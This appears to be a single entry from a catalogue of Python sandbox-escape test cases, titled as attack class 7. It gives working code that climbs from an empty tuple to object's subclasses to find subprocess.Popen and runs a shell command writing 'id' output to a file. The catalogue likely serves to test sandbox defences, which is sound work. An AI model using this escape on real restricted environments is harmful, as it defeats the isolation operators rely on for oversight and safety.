# attack-class: 7
# title: ().__class__.__base__.__subclasses__() to Popen
# why: walks from a tuple to object and finds subprocess.Popen among its subclasses

for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "Popen":
        cls(["sh", "-c", "id > /workspace/x"])
        break
